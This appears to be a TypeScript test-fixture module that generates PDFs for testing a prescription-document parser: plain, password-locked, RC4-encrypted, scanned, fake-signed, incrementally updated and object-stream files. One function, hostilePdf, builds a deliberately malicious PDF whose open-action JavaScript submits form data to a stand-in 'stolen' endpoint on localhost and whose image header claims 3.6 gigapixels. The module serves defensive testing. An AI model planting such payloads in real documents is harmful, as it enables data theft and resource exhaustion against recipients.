import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

/** The smallest real PDF: one empty page with the given title. */
export function makePdf(title = 'Rezept'): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    `<< /Title (${title.replace(/[()\\]/g, '')}) >>`,
  ];
  return pdfFile(objects, 4);
}

/** Objects as a file, with the numbers from 1; the first is the catalogue. `info` is the number of the one with the title. */
export function pdfFile(objects: readonly (string | Buffer)[], info?: number): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n')];
  let length = parts[0]?.length ?? 0;
  const rows = objects.map((body, index) => {
    const row = `${String(length).padStart(10, '0')} 00000 n \n`;
    const bytes = typeof body === 'string' ? Buffer.from(body, 'latin1') : body;
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), bytes, Buffer.from('\nendobj\n')]);
    parts.push(object);
    length += object.length;
    return row;
  });
  const size = objects.length + 1;
  const root = `/Size ${size} /Root 1 0 R ${info === undefined ? '' : `/Info ${info} 0 R `}>>`;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}`;
  parts.push(Buffer.from(`${table}trailer\n<< ${root}\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** PDFs with readable text, scans, and hostile ones. */

const PAGES = 2;
const FONT = 3;
const FIRST_FREE = 4;
const A4 = '[0 0 595 842]';

/** One page per list of lines. */
export function textPdf(...pages: string[][]): Buffer {
  return pdfOf(pages.map((lines) => ({ content: linesOf(lines), resources: `/Font << /F1 ${FONT} 0 R >>` })));
}

/** Cannot be read without a password. */
export function lockedPdf(): Buffer {
  const [owner, user, id] = ['aa'.repeat(32), 'bb'.repeat(32), 'cc'.repeat(16)];
  const lock = `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${owner}> /U <${user}> >>`;
  const pdf = textPdf(['Privatrezept']).toString('latin1');
  return Buffer.from(pdf.replace('>>\nstartxref', `${lock} /ID [<${id}> <${id}>] >>\nstartxref`), 'latin1');
}

/** The user's password of a file that opens without one. */
const NO_PASSWORD = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');

/** With all streams encrypted, as programs do that forbid to copy or change a file. It opens without a password. */
export function encryptedPdf(pdf: Buffer): Buffer {
  const [rights, id] = [-44, Buffer.alloc(16, 0xcc)];
  const owner = rc4(md5(NO_PASSWORD).subarray(0, 5), NO_PASSWORD);
  const key = md5(NO_PASSWORD, owner, Buffer.from(Int32Array.of(rights).buffer), id).subarray(0, 5);
  const user = rc4(key, NO_PASSWORD).toString('hex');
  const encrypted = Buffer.from(pdf);
  const streams = /(\d+) 0 obj\n(?:(?!endobj)[^])*?\/Length (\d+) >>\nstream\n/g;
  for (const { 0: head, 1: object, 2: length, index } of pdf.toString('latin1').matchAll(streams)) {
    const from = index + head.length;
    const ofObject = Buffer.concat([
      key,
      Buffer.from(Int32Array.of(Number(object)).buffer, 0, 3),
      Buffer.alloc(2),
    ]);
    rc4(md5(ofObject).subarray(0, 10), pdf.subarray(from, from + Number(length))).copy(encrypted, from);
  }
  const lock = `/Encrypt << /Filter /Standard /V 1 /R 2 /P ${rights} /O <${owner.toString('hex')}> /U <${user}> >>`;
  const ids = `/ID [<${id.toString('hex')}> <${id.toString('hex')}>]`;
  return Buffer.from(
    encrypted.toString('latin1').replace('>>\nstartxref', `${lock} ${ids} >>\nstartxref`),
    'latin1',
  );
}

function md5(...parts: Buffer[]): Buffer {
  return createHash('md5').update(Buffer.concat(parts)).digest();
}

/** Node's own is switched off. */
function rc4(key: Buffer, bytes: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, at) => at);
  const swap = (one: number, other: number): void => {
    [state[one], state[other]] = [state[other] ?? 0, state[one] ?? 0];
  };
  for (let at = 0, other = 0; at < 256; at += 1) {
    other = (other + (state[at] ?? 0) + (key[at % key.length] ?? 0)) % 256;
    swap(at, other);
  }
  let [at, other] = [0, 0];
  const changed = bytes.map((byte) => {
    at = (at + 1) % 256;
    other = (other + (state[at] ?? 0)) % 256;
    swap(at, other);
    return byte ^ (state[((state[at] ?? 0) + (state[other] ?? 0)) % 256] ?? 0);
  });
  return Buffer.from(changed);
}

/** A page that is a picture, as a scanner makes it: there is no text to find. */
export function scannedPdf(): Buffer {
  const [width, height] = [60, 84];
  const pixels = Buffer.from(
    Array.from({ length: width * height }, (_, at) => (Math.floor(at / width) % 7 === 0 ? 60 : 245)),
  );
  const head = `<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8`;
  return pdfOf(
    [{ content: 'q 595 0 0 842 0 0 cm /Im1 Do Q', resources: `/XObject << /Im1 ${FIRST_FREE} 0 R >>` }],
    { objects: [stream(head, pixels)] },
  );
}

/** Runs a script when it is opened, sends a form elsewhere, and holds an image of 3.6 gigapixels. */
export function hostilePdf(lines: string[]): Buffer {
  const script = "app.alert('hostile'); this.submitForm('http://127.0.0.1:9/stolen');";
  const huge =
    '<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8';
  const image = FIRST_FREE;
  return pdfOf(
    [
      {
        content: `${linesOf(lines)} q 100 0 0 100 60 60 cm /Im1 Do Q`,
        resources: `/Font << /F1 ${FONT} 0 R >> /XObject << /Im1 ${image} 0 R >>`,
      },
    ],
    {
      objects: [stream(huge, Buffer.alloc(64))],
      catalog: `/OpenAction << /S /JavaScript /JS (${escaped(script)}) >>`,
    },
  );
}

interface PdfPage {
  content: string;
  resources: string;
}

function pdfOf(
  pages: PdfPage[],
  { objects = [], catalog = '' }: { objects?: string[]; catalog?: string } = {},
): Buffer {
  const first = FIRST_FREE + objects.length;
  const kids = pages.map((_, index) => `${first + 2 * index} 0 R`).join(' ');
  const bodies = [
    `<< /Type /Catalog /Pages ${PAGES} 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...objects,
    ...pages.flatMap(({ content, resources }, index) => [
      `<< /Type /Page /Parent ${PAGES} 0 R /MediaBox ${A4} /Resources << ${resources} >> /Contents ${first + 2 * index + 1} 0 R >>`,
      stream('<<', Buffer.from(content, 'latin1')),
    ]),
  ];
  return pdfFile(bodies);
}

function stream(head: string, bytes: Buffer): string {
  return `${head} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
}

function linesOf(lines: string[]): string {
  const shown = lines.map((line) => `(${escaped(line)}) Tj T*`).join(' ');
  return `BT /F1 12 Tf 16 TL 60 780 Td ${shown} ET`;
}

function escaped(text: string): string {
  return text.replace(/[\\()]/g, '\\$&');
}

/** PDFs as prescribing software creates them: signed, changed after signing, with pages in object streams. */

const RANGE_LENGTH = 60;

/**
 * Appends a signature dictionary that covers the whole file. The signature itself is fake: readers use only the
 * byte range.
 */
export function signPdf(pdf: Buffer, options: { contents?: string } = {}): Buffer {
  const hex = options.contents ?? '30820a1f'.repeat(200);
  const before = `9 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached\n/ByteRange `;
  const after = '\n>>\nendobj\ntrailer\n<< /Root 1 0 R /Size 10 >>\nstartxref\n0\n%%EOF\n';
  const head = pdf.length + before.length + RANGE_LENGTH + '\n/Contents '.length;
  const tail = head + hex.length + 2;
  const range = `[0 ${head} ${tail} ${after.length}]`.padEnd(RANGE_LENGTH);
  return Buffer.concat([pdf, Buffer.from(`${before}${range}\n/Contents <${hex}>${after}`, 'latin1')]);
}

/** An incremental update that rewrites object 4. */
export function appendUpdate(pdf: Buffer): Buffer {
  const update = '4 0 obj\n<< /Title (changed) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n';
  return Buffer.concat([pdf, Buffer.from(update, 'latin1')]);
}

/** A PDF 1.5 with its pages in one deflated object stream. */
export function pdfWithObjectStream(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, index) => `${index + 3} 0 R`).join(' ');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    ...Array.from({ length: pages }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'),
  ];
  let body = '';
  const header = objects.map((object, index) => {
    const pair = `${index + 1} ${body.length}`;
    body += `${object}\n`;
    return pair;
  });
  const first = `${header.join(' ')}\n`;
  const data = deflateSync(Buffer.from(first + body, 'latin1'));
  const dictionary = `<< /Type /ObjStm /N ${objects.length} /First ${first.length} /Filter /FlateDecode /Length ${data.length} >>`;
  return Buffer.concat([
    Buffer.from(`%PDF-1.5\n${pages + 10} 0 obj\n${dictionary}\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream\nendobj\nstartxref\n0\n%%EOF\n', 'latin1'),
  ]);
}
